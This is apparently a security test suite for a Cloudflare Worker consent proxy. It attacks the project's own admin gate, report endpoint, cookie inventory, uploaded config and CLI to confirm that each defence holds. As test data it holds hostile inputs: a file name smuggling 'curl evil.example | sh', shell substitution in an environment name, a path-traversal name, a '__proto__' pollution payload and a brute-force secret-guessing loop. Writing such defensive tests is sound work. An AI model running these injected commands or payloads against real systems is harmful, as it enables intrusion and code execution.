/**
 * Issue 10's new surfaces as an attacker sees them, through the real worker (createProxy, the
 * fixture origin, miniflare's real D1): the operator's admin endpoints, report-only's preview,
 * the report endpoint and the inventory's caps, and the CLI's pure parts. A test written as
 * `it.fails` is a hole found and not fixed: it says what an attacker gets and what the fix is,
 * and turns red the day it is fixed (then make it an `it`). Every other test pins a defence that
 * holds. The CLI against hostile servers over real HTTP is in e2e/attacks-issue10.e2e.test.ts.
 */
import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { Hono } from "hono";
import { describe, expect, it } from "vitest";
import { main } from "../src/cli/main";
import { pushCommand, shellLine } from "../src/cli/push";
import { applyPatch, buildSuggestions } from "../src/cli/suggest";
import { compileConfig } from "../src/config/compile";
import type { SiteInput } from "../src/config/types";
import { type Receipt, readReceipt, writeReceipt } from "../src/endpoints/receipts";
import { createRecorder, type IsolateRecorder } from "../src/inventory/recorder";
import { OVERFLOW_NAME, purgeInventory, readInventory } from "../src/inventory/store";
import type { InventoryDocument } from "../src/inventory/types";
import type { Env } from "../src/env";
import { SHADOW_LIMIT_BYTES } from "../src/html/rewrite-html";
import { setLogSink } from "../src/log";
import { consentEdge } from "../src/middleware/consent-edge";
import { CONFIG_KEY } from "../src/config/remote-config";
import { CONFIG_HEADER, createProxy, createWorker } from "../src/worker";
import { DEBUG_SECRET, FIXED_NOW, FIXED_NOW_MS, testSite } from "./helpers";

const inventoryDb = (env as unknown as { INVENTORY_DB: D1Database }).INVENTORY_DB;
const consentDb = (env as unknown as { CONSENT_DB: D1Database }).CONSENT_DB;
/** A second site's secret: a binding the test adds to the worker's env. */
const OTHER_SECRET = "other-site-secret";
const testEnv: Env = { ...env, OTHER_DEBUG_SECRET: OTHER_SECRET } as Env;

function proxy(
  sites: SiteInput[],
  inventory: IsolateRecorder = createRecorder({ flushIntervalSeconds: 3_600 }),
) {
  const compiled = compileConfig({ sites });
  if (!compiled.ok) throw new Error(JSON.stringify(compiled.problems));
  return createProxy(compiled.config, { clock: () => FIXED_NOW_MS, inventory });
}

type Proxy = ReturnType<typeof proxy>;

async function fetchApp(app: Proxy, url: string, init: RequestInit = {}): Promise<Response> {
  const ctx = createExecutionContext();
  const response = await app.fetch(new Request(url, init), testEnv, ctx);
  const body = await response.arrayBuffer();
  await waitOnExecutionContext(ctx);
  return new Response(body, response);
}

const b64 = (text: string) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));
const GA_PAGE =
  '<!doctype html><html><head><script async src="https://www.googletagmanager.com/gtag/js?id=G-ATTACK"></script></head><body><p>hi</p></body></html>';
/** Request headers that make the fixture origin answer with `html` as text/html. */
const htmlFromOrigin = (html: string): Record<string, string> => ({
  "X-Fixture-Body": b64(html),
  "X-Fixture-Header": JSON.stringify({ "Content-Type": "text/html; charset=utf-8" }),
});

describe("the admin endpoints' gate", () => {
  it("a site without a debugSecret answers no admin endpoint, whatever X-Consent-Debug holds", async () => {
    const site = testSite({ id: "attack-nosecret", inventory: { enabled: true } });
    delete site.debugSecret;
    const app = proxy([site]);
    for (const presented of ["", "undefined", "null", DEBUG_SECRET, "CONSENT_DEBUG_SECRET"]) {
      for (const path of ["inventory", "receipts", "receipts/purge"]) {
        const res = await fetchApp(app, `https://www.example.com/.consent-edge/admin/${path}`, {
          method: path.endsWith("purge") ? "POST" : "GET",
          headers: { "X-Consent-Debug": presented, "Content-Type": "application/json" },
          body: path.endsWith("purge") ? "{}" : null,
        });
        expect(res.status).toBe(404);
        expect(await res.text()).toBe("Not Found\n");
      }
    }
  });

  it("one site's secret opens neither a sibling host's nor a sibling pathPrefix's data", async () => {
    const a = testSite({
      id: "attack-a",
      hosts: ["a.example.com", "shared.example.com"],
      inventory: { enabled: true },
    });
    const b = testSite({
      id: "attack-b",
      hosts: ["b.example.com"],
      debugSecret: "OTHER_DEBUG_SECRET",
      inventory: { enabled: true },
    });
    const shop = testSite({
      id: "attack-shop",
      hosts: ["shared.example.com"],
      pathPrefix: "/shop",
      debugSecret: "OTHER_DEBUG_SECRET",
      inventory: { enabled: true },
    });
    const app = proxy([shop, a, b]);
    const withA = { headers: { "X-Consent-Debug": DEBUG_SECRET } };
    for (const url of [
      "https://b.example.com/.consent-edge/admin/inventory",
      "https://shared.example.com/shop/.consent-edge/admin/inventory",
      "https://shared.example.com/shop%2F.consent-edge/admin/inventory",
      "https://shared.example.com/shop/x/../.consent-edge/admin/inventory",
      "https://shared.example.com/%73hop/.consent-edge/admin/inventory",
    ]) {
      const res = await fetchApp(app, url, withA);
      const text = await res.text();
      // Either the admin endpoint's 404, or (a path no site's prefix claims) the origin's own answer.
      if (res.status !== 404) expect(res.headers.get("X-Fixture-Received-Url"), url).not.toBeNull();
      expect(text, url).not.toContain('"entries"');
      expect(text, url).not.toContain('"site":"attack-');
    }
    // The secrets do open their own sites (so the refusals above are the gate, not a broken app).
    const own = await fetchApp(app, "https://shared.example.com/.consent-edge/admin/inventory", withA);
    expect((await own.json<InventoryDocument>()).site).toBe("attack-a");
    const shopOwn = await fetchApp(app, "https://shared.example.com/shop/.consent-edge/admin/inventory", {
      headers: { "X-Consent-Debug": OTHER_SECRET },
    });
    expect((await shopOwn.json<InventoryDocument>()).site).toBe("attack-shop");
  });

  it("the secret sent twice, or with a second value joined to it, does not open the door", async () => {
    const app = proxy([testSite({ id: "attack-twice", inventory: { enabled: true } })]);
    const url = "https://www.example.com/.consent-edge/admin/inventory";
    const twice = new Headers();
    twice.append("X-Consent-Debug", DEBUG_SECRET);
    twice.append("X-Consent-Debug", DEBUG_SECRET);
    for (const headers of [
      twice,
      { "X-Consent-Debug": `${DEBUG_SECRET}, x` },
      { "X-Consent-Debug": DEBUG_SECRET.toUpperCase() },
      { "X-Consent-Debug": DEBUG_SECRET.slice(0, -1) },
    ]) {
      const res = await fetchApp(app, url, { headers });
      expect(res.status).toBe(404);
    }
    expect((await fetchApp(app, url, { headers: { "X-Consent-Debug": ` ${DEBUG_SECRET} ` } })).status).toBe(
      200, // Fetch trims a header value's surrounding whitespace (Fetch Standard, "normalize"): the same secret.
    );
  });

  it("a browser cannot reach them cross-site: the CORS preflight is a bare 404 that allows nothing", async () => {
    const app = proxy([
      testSite({ id: "attack-cors", consent: { receipts: true }, inventory: { enabled: true } }),
    ]);
    for (const path of ["inventory", "receipts/purge"]) {
      const res = await fetchApp(app, `https://www.example.com/.consent-edge/admin/${path}`, {
        method: "OPTIONS",
        headers: {
          Origin: "https://evil.example",
          "Access-Control-Request-Method": "POST",
          "Access-Control-Request-Headers": "x-consent-debug, content-type",
        },
      });
      expect(res.status).toBe(404);
      expect([...res.headers.keys()].filter((name) => name.startsWith("access-control-"))).toEqual([]);
    }
  });

  it("the purge refuses what a form can send (no preflight), even with the secret; nothing is deleted", async () => {
    const id = `attack-purge-${crypto.randomUUID().slice(0, 8)}`;
    const app = proxy([testSite({ id, consent: { receipts: true } })]);
    const old: Receipt = {
      id: `old${crypto.randomUUID().replaceAll("-", "")}`,
      site: id,
      createdAt: 1, // 1970: older than any retention
      policyRevision: "2026-04-03",
      action: "grant",
      granted: ["necessary", "analytics"],
      method: "json",
      region: "DE (opt-in)",
      previousId: null,
    };
    await writeReceipt(consentDb, old);
    for (const type of [
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "text/plain",
      "",
    ]) {
      const res = await fetchApp(app, "https://www.example.com/.consent-edge/admin/receipts/purge", {
        method: "POST",
        headers: { "X-Consent-Debug": DEBUG_SECRET, ...(type ? { "Content-Type": type } : {}) },
        body: type.startsWith("application/x-www") ? "olderThan=999999999" : '{"olderThan":999999999}',
      });
      expect(res.status, type).toBe(415);
    }
    expect(await readReceipt(consentDb, id, old.id)).toBeDefined();
  });

  // FOUND (low to medium) and fixed: neither the secret's strength nor the number of guesses was
  // checked, and since issue 10 the secret opens every receipt, their purge and the inventory: a
  // short secret fell to 1,000 online guesses from one client. Now a client is refused after
  // MAX_WRONG_GUESSES wrong secrets in GUESS_WINDOW_SECONDS (debug/guess-limit.ts, one
  // debug-secret-refused event), and the operator's endpoints stay closed (404, one
  // debug-secret-weak event) while the secret is shorter than MIN_ADMIN_SECRET_LENGTH.
  it("a short secret cannot be guessed online", async () => {
    const app = proxy([testSite({ id: "attack-guess", inventory: { enabled: true } })]);
    const weak = { ...testEnv, CONSENT_DEBUG_SECRET: "731" } as Env;
    let opened: string | undefined;
    for (let guess = 0; guess < 1_000 && opened === undefined; guess++) {
      const ctx = createExecutionContext();
      const res = await app.fetch(
        new Request("https://www.example.com/.consent-edge/admin/inventory", {
          headers: { "X-Consent-Debug": String(guess), "CF-Connecting-IP": "203.0.113.77" },
        }),
        weak,
        ctx,
      );
      await res.arrayBuffer();
      await waitOnExecutionContext(ctx);
      if (res.status === 200) opened = String(guess);
    }
    expect(opened).toBeUndefined();
  });

  it("two sites cannot share an id, and so never each other's inventory or receipt rows", () => {
    const compiled = compileConfig({
      sites: [
        testSite({ id: "attack-same", hosts: ["a.example.com"] }),
        testSite({ id: "attack-same", hosts: ["b.example.com"], debugSecret: "OTHER_DEBUG_SECRET" }),
      ],
    });
    expect(compiled.ok).toBe(false);
    if (!compiled.ok) expect(compiled.problems.map((problem) => problem.path)).toEqual(["sites[1].id"]);
  });

  it("neither the secret nor the preview header reaches the origin", async () => {
    const app = proxy([testSite({ id: "attack-forward", mode: "report-only" })]);
    const res = await fetchApp(app, "https://www.example.com/echo", {
      headers: { "X-Consent-Debug": DEBUG_SECRET, "X-Consent-Preview": "enforce" },
    });
    const received = await res.json<{ headers: Record<string, string> }>();
    // consent-edge tells the origin the visitor's consent in X-Consent-Granted and its kin; nothing else.
    expect(Object.keys(received.headers).filter((name) => /debug|preview/i.test(name))).toEqual([]);
    expect(JSON.stringify(received)).not.toContain(DEBUG_SECRET);
  });
});

describe("report-only and its preview", () => {
  it("a wrong or absent secret with X-Consent-Preview: enforce gets the origin's bytes, cookies and headers", async () => {
    const app = proxy([
      testSite({ id: "attack-preview", mode: "report-only", inventory: { enabled: true } }),
    ]);
    const cookie = "_ga=GA1.1; _fbp=fb.1";
    for (const secret of [undefined, "wrong", ""]) {
      const res = await fetchApp(app, "https://www.example.com/page", {
        headers: {
          ...htmlFromOrigin(GA_PAGE),
          Cookie: cookie,
          "X-Consent-Preview": "enforce",
          "X-Fixture-Set-Cookie": JSON.stringify(["_fbp=fb.2; Path=/"]),
          ...(secret === undefined ? {} : { "X-Consent-Debug": secret }),
        },
      });
      expect(await res.text()).toBe(GA_PAGE);
      expect(res.headers.get("X-Fixture-Received-Cookie")).toBe(cookie);
      expect(res.headers.getSetCookie()).toEqual(["_fbp=fb.2; Path=/"]);
      expect(res.headers.get("X-Consent-Mode")).toBeNull();
    }
  });

  it("on an enforcing site no preview header relaxes enforcement, with the secret or without", async () => {
    const app = proxy([testSite({ id: "attack-relax", inventory: { enabled: true } })]);
    for (const preview of ["report-only", "off", "none", "enforce"]) {
      for (const secret of [DEBUG_SECRET, undefined]) {
        const res = await fetchApp(app, "https://www.example.com/page", {
          headers: {
            ...htmlFromOrigin(GA_PAGE),
            Cookie: "_ga=GA1.1",
            "X-Consent-Preview": preview,
            ...(secret ? { "X-Consent-Debug": secret } : {}),
          },
        });
        const text = await res.text();
        expect(text).not.toContain(' src="https://www.googletagmanager.com');
        expect(text).toContain("data-ce-src=");
        expect(res.headers.get("X-Fixture-Received-Cookie")).toBe("");
      }
    }
  });
});

describe("report-only's shadow costs what it is allowed to, and no more", () => {
  it("a visitor who stops reading holds at most the shadow's limit of the page; leaving cancels the origin", async () => {
    const app = new Hono();
    app.use(
      consentEdge(
        { sites: [testSite({ id: "attack-slow", mode: "report-only", inventory: { enabled: true } })] },
        { clock: () => FIXED_NOW_MS, inventory: createRecorder({ flushIntervalSeconds: 3_600 }) },
      ),
    );
    const PAGE_BYTES = 16 * 1024 * 1024;
    const chunk = new TextEncoder().encode(`<p>${"x".repeat(64 * 1024 - 7)}</p>`);
    let pulled = 0;
    let cancelled = false;
    app.get(
      "/big",
      () =>
        new Response(
          new ReadableStream<Uint8Array>({
            start(controller) {
              controller.enqueue(new TextEncoder().encode("<!doctype html><html><body>"));
            },
            pull(controller) {
              if (pulled >= PAGE_BYTES) {
                controller.close();
                return;
              }
              pulled += chunk.byteLength;
              controller.enqueue(chunk.slice());
            },
            cancel() {
              cancelled = true;
            },
          }),
          { headers: { "Content-Type": "text/html; charset=utf-8" } },
        ),
    );
    const ctx = createExecutionContext();
    const res = await app.fetch(new Request("https://www.example.com/big"), env, ctx);
    const reader = (res.body as ReadableStream<Uint8Array>).getReader();
    let read = (await reader.read()).value?.byteLength ?? 0;
    // The visitor stalls: only the shadow reads on, and it stops at its limit (plus a chunk in flight).
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(pulled).toBeLessThanOrEqual(SHADOW_LIMIT_BYTES + 4 * chunk.byteLength);
    while (read < 2 * SHADOW_LIMIT_BYTES) {
      const next = await reader.read();
      if (next.done) break;
      read += next.value.byteLength;
    }
    // The shadow had let go of its branch: the visitor leaving is the origin's stream cancelled.
    await reader.cancel();
    await new Promise((resolve) => setTimeout(resolve, 100));
    await waitOnExecutionContext(ctx);
    expect(cancelled).toBe(true);
    expect(pulled).toBeLessThan(PAGE_BYTES / 2);
  });
});

describe("the report endpoint and the inventory", () => {
  it("a report adds only browser host entries of its own site: claimed rules, kinds, sites and categories are ignored", async () => {
    const id = `attack-claims-${crypto.randomUUID().slice(0, 8)}`;
    const inventory = createRecorder({ flushIntervalSeconds: 3_600 });
    const app = proxy([testSite({ id, inventory: { enabled: true } })], inventory);
    const res = await fetchApp(app, "https://www.example.com/.consent-edge/report", {
      method: "POST",
      headers: {
        "Content-Type": "text/plain",
        "Sec-Fetch-Site": "same-origin",
        "CF-Connecting-IP": "203.0.113.9",
      },
      body: JSON.stringify({
        v: 1,
        page: "/p",
        contacted: ["www.google-analytics.com", "evil.example.net"],
        refused: [],
        kind: "cookie",
        site: "another-site",
        rule: "host:evil.example.net",
        category: "necessary",
        entries: [{ kind: "cookie", name: "session", rule: "session", category: "necessary" }],
      }),
    });
    expect(res.status).toBe(204);
    await inventory.flush({ env: testEnv, waitUntil: () => {}, now: FIXED_NOW });
    const entries = await readInventory(inventoryDb, id);
    expect(entries.map((entry) => [entry.kind, entry.name, entry.source]).sort()).toEqual([
      ["host", "evil.example.net", "browser"],
      ["host", "www.google-analytics.com", "browser"],
    ]);
    expect(entries.find((entry) => entry.name === "evil.example.net")?.rule).toBeNull();
    expect(entries.some((entry) => entry.category === "necessary")).toBe(false);
    expect(await readInventory(inventoryDb, "another-site")).toEqual([]);
    await purgeInventory(inventoryDb, id);
  });

  it("a report from a sibling subdomain or another site is refused and records nothing", async () => {
    const id = `attack-xsite-${crypto.randomUUID().slice(0, 8)}`;
    const inventory = createRecorder({ flushIntervalSeconds: 3_600 });
    const app = proxy([testSite({ id, inventory: { enabled: true } })], inventory);
    const previous = setLogSink(() => {});
    try {
      for (const headers of [
        { "Sec-Fetch-Site": "same-site" },
        { "Sec-Fetch-Site": "cross-site" },
        { Origin: "https://evil.example.org" },
        { Origin: "null" },
      ]) {
        const res = await fetchApp(app, "https://www.example.com/.consent-edge/report", {
          method: "POST",
          headers: { "Content-Type": "text/plain", ...headers },
          body: JSON.stringify({ v: 1, page: "/", contacted: ["planted.example.net"] }),
        });
        expect(res.status).toBe(403);
      }
    } finally {
      setLogSink(previous);
    }
    expect(inventory.buffered).toBe(0);
  });

  // FOUND (medium) and fixed: the inventory's per-site cap was first come, first served, and
  // visitors filled it: three requests whose Cookie headers held 1,200 made-up names took all
  // MAX_ENTRIES_PER_SITE named rows for good, and from then on every cookie the origin really set was
  // counted only as "(other)" (an attacker who plants a tracker could hide it that way). Now what the
  // origin says (Set-Cookie, page hosts) and what visitors say (Cookie headers, browser reports)
  // each have half of the rows, in memory and in D1 (store.ts, recorder.ts, sideOf). Left: junk can
  // still fill the visitors' half, hiding cookies only scripts set (seen only in Cookie headers);
  // evicting the least-counted name (Space-Saving, Metwally et al. 2005) would close that too.
  it("junk cookie names from one visitor do not push the origin's own cookies into (other)", async () => {
    const id = `attack-crowd-${crypto.randomUUID().slice(0, 8)}`;
    const inventory = createRecorder({ flushIntervalSeconds: 3_600 });
    const app = proxy([testSite({ id, inventory: { enabled: true } })], inventory);
    const previous = setLogSink(() => {});
    try {
      for (let request = 0; request < 3; request++) {
        const junk = Array.from({ length: 400 }, (_, i) => `j${request}x${i}=1`).join("; ");
        await fetchApp(app, "https://www.example.com/", {
          headers: { Cookie: junk, "CF-Connecting-IP": "203.0.113.66" },
        });
      }
      // A real visitor's page view, on which the origin sets a tracker no rule declares.
      await fetchApp(app, "https://www.example.com/", {
        headers: { "X-Fixture-Set-Cookie": JSON.stringify(["_hjSessionUser_42=x; Path=/"]) },
      });
      await inventory.flush({ env: testEnv, waitUntil: () => {}, now: FIXED_NOW });
      const entries = await readInventory(inventoryDb, id);
      // The junk fills the visitors' half of the site's rows, and no more.
      expect(entries.filter((entry) => entry.name.startsWith("j")).length).toBe(500);
      expect(entries.some((entry) => entry.source === "set-cookie" && entry.name === OVERFLOW_NAME)).toBe(
        false,
      );
      // What the inventory must show:
      expect(entries.map((entry) => entry.name)).toContain("_hjSessionUser_42");
    } finally {
      setLogSink(previous);
      await purgeInventory(inventoryDb, id);
    }
  });
});

describe("an uploaded config (CONFIG_KV) crafted to slip through", () => {
  const kv = (env as unknown as { CONFIG_KV: KVNamespace }).CONFIG_KV;
  /** The bundled config keeps `promo` as necessary; every upload below would have it marketing. */
  const bundled = {
    sites: [testSite({ id: "attack-kv", cookies: [{ name: "promo", category: "necessary" }] })],
  };
  const enforcing = testSite({ id: "attack-kv", cookies: [{ name: "promo", category: "marketing" }] });

  /** What serves a page after `text` was uploaded: the config, and whether `promo` was let through. */
  async function served(text: string) {
    await kv.put(CONFIG_KEY, text);
    const events: string[] = [];
    const previous = setLogSink((_level, line) => events.push(line));
    try {
      const app = createWorker(bundled, { clock: () => FIXED_NOW_MS, remoteConfig: { refreshSeconds: 0 } });
      let response: Response | undefined;
      for (let i = 0; i < 2; i++) {
        const ctx = createExecutionContext();
        response = await app.fetch(
          new Request("https://www.example.com/", {
            headers: {
              "X-Consent-Debug": DEBUG_SECRET,
              "X-Fixture-Set-Cookie": JSON.stringify(["promo=1; Path=/"]),
            },
          }),
          env,
          ctx,
        );
        await response.arrayBuffer();
        await waitOnExecutionContext(ctx);
      }
      if (!response) throw new Error("no response");
      return {
        status: response.status,
        config: response.headers.get(CONFIG_HEADER),
        promoKept: response.headers.getSetCookie().some((line) => line.startsWith("promo=")),
        events: events.join("\n"),
      };
    } finally {
      setLogSink(previous);
      await kv.delete(CONFIG_KEY);
    }
  }

  it("an origin that answers with consent-edge's own headers gets none of them to the visitor", async () => {
    const app = createWorker(bundled, { clock: () => FIXED_NOW_MS, remoteConfig: { refreshSeconds: 0 } });
    const forged = {
      "X-Consent-Site": "forged",
      "X-Consent-Mode": "report-only",
      "X-Consent-Config": "kv deadbeef",
      "X-Consent-Html": "report-only: unchanged",
    };
    const ctx = createExecutionContext();
    const res = await app.fetch(
      new Request("https://www.example.com/", { headers: { "X-Fixture-Header": JSON.stringify(forged) } }),
      env,
      ctx,
    );
    await res.arrayBuffer();
    await waitOnExecutionContext(ctx);
    expect(res.status).toBe(200);
    expect([...res.headers.keys()].filter((name) => name.startsWith("x-consent-"))).toEqual([]);
  });

  it("__proto__ keys do not turn a site into report-only or its cookies necessary", async () => {
    const site = JSON.stringify(enforcing).replace(
      /^\{/,
      '{"__proto__": {"mode": "report-only", "cookies": [{"name": "promo", "category": "necessary"}]}, ',
    );
    const text = `{"__proto__": {"sites": []}, "sites": [${site}]}`;
    const result = await served(text);
    expect(result.status).toBe(200);
    // Refused as an unknown field (never merged into a prototype): the bundled config answers.
    expect(result.config).toBe("bundled");
    expect(result.events).toContain('unknown field \\"__proto__\\"');
  });

  it("a document nested a million deep is refused without a 5xx; the bundled config answers", async () => {
    const deep = `${"[".repeat(1_000_000)}${"]".repeat(1_000_000)}`;
    const text = JSON.stringify({ sites: [{ ...enforcing, banner: "X" }] }).replace('"X"', deep);
    const result = await served(text);
    expect(result.status).toBe(200);
    expect(result.config).toBe("bundled");
    expect(result.events).toContain("config-rejected");
  });

  it("a duplicate key is read as the last one, as JSON.parse and `consent-edge check` read it", async () => {
    // Two "mode"s: whatever reads the file reads the same config (src/config/parse-text.ts for both).
    const site = JSON.stringify(enforcing).replace(/^\{/, '{"mode": "report-only", "mode": "enforce", ');
    const result = await served(`{"sites": [${site}]}`);
    expect(result.config).toMatch(/^kv /);
    expect(result.promoKept).toBe(false);
  });
});

describe("the CLI's pure parts", () => {
  it("check refuses a debugSecret that names a var: its value is plain text in wrangler.toml", async () => {
    const config = JSON.stringify({
      sites: [
        { ...testSite({ id: "attack-var", origin: "https://origin.example.com" }), debugSecret: "DEBUG" },
      ],
    });
    const wrangler = (vars: string) =>
      `name = "edge"\nmain = "src/index.ts"\ncompatibility_date = "2026-04-20"\n${vars}\n[env.staging.vars]\nDEBUG = "hunter2"\n`;
    const run = async (toml: string, env?: string) => {
      const stderr: string[] = [];
      const files: Record<string, string> = { "c.json": config, "wrangler.toml": toml };
      const code = await main(
        ["check", "c.json", "--wrangler", "wrangler.toml", ...(env ? ["--env", env] : [])],
        {
          readFile: (path) => {
            const text = files[path];
            if (text === undefined) throw new Error(`ENOENT: ${path}`);
            return text;
          },
          stdout: () => {},
          stderr: (line) => stderr.push(line),
        },
      );
      return { code, stderr: stderr.join("\n") };
    };
    const top = await run(wrangler('[vars]\nDEBUG = "hunter2"'));
    expect(top.code).toBe(1);
    expect(top.stderr).toContain('sites[0].debugSecret ("attack-var") in c.json names DEBUG, a var');
    expect(top.stderr).toContain("wrangler secret put DEBUG");
    const staging = await run(wrangler(""), "staging");
    expect(staging.code).toBe(1);
    expect(staging.stderr).toContain("--env staging");
    // A secret is not in the file at all: the same config passes.
    expect((await run(wrangler(""))).code).toBe(0);
  });

  it("push hands a hostile file or environment name to wrangler as one argument each, never to a shell", () => {
    const file = "x.json; curl evil.example | sh #";
    const envName = "prod$(id)`id`";
    const command = pushCommand(file, envName);
    expect(command[command.indexOf("--path") + 1]).toBe(file);
    expect(command[command.indexOf("--env") + 1]).toBe(envName);
    // What it prints for the operator to copy is quoted as a POSIX shell needs.
    expect(shellLine(command)).toContain(`'x.json; curl evil.example | sh #'`);
    expect(shellLine(command)).toContain("'prod$(id)`id`'");
  });

  it("suggest's patch only ever adds under the site's own array, whatever names the inventory holds", () => {
    const config = {
      sites: [
        testSite({ id: "first" }),
        testSite({ id: "second", hosts: ["second.example.com"], cookies: [] }),
      ],
    };
    const compiled = compileConfig(config);
    if (!compiled.ok) throw new Error("config");
    const site = compiled.config.sites[1];
    if (!site) throw new Error("site");
    const names = ["_ga", "~1sites~10", "../../etc/passwd", "__proto__", "constructor", "_fbp"];
    const doc: InventoryDocument = {
      site: "second",
      generatedAt: FIXED_NOW,
      mode: "enforce",
      entries: names.map((name) => ({
        site: "second",
        kind: "cookie",
        name,
        source: "set-cookie",
        action: "dropped",
        rule: null,
        category: null,
        count: 1,
        firstSeen: FIXED_NOW,
        lastSeen: FIXED_NOW,
        samplePaths: ["/"],
      })),
    };
    const result = buildSuggestions(doc, config, 1, site);
    expect(result.operations.every((operation) => operation.path.startsWith("/sites/1/"))).toBe(true);
    const patched = applyPatch(config, result.operations) as typeof config;
    expect(patched.sites[0]).toEqual(config.sites[0]);
    expect(Object.getPrototypeOf(patched)).toBe(Object.prototype);
    // Only names of vendors the tables know became rules; the rest wait for the operator.
    expect(result.suggestions.flatMap((suggestion) => suggestion.seen).sort()).toEqual(["_fbp", "_ga"]);
    expect(compileConfig(patched).ok).toBe(true);
  });
});
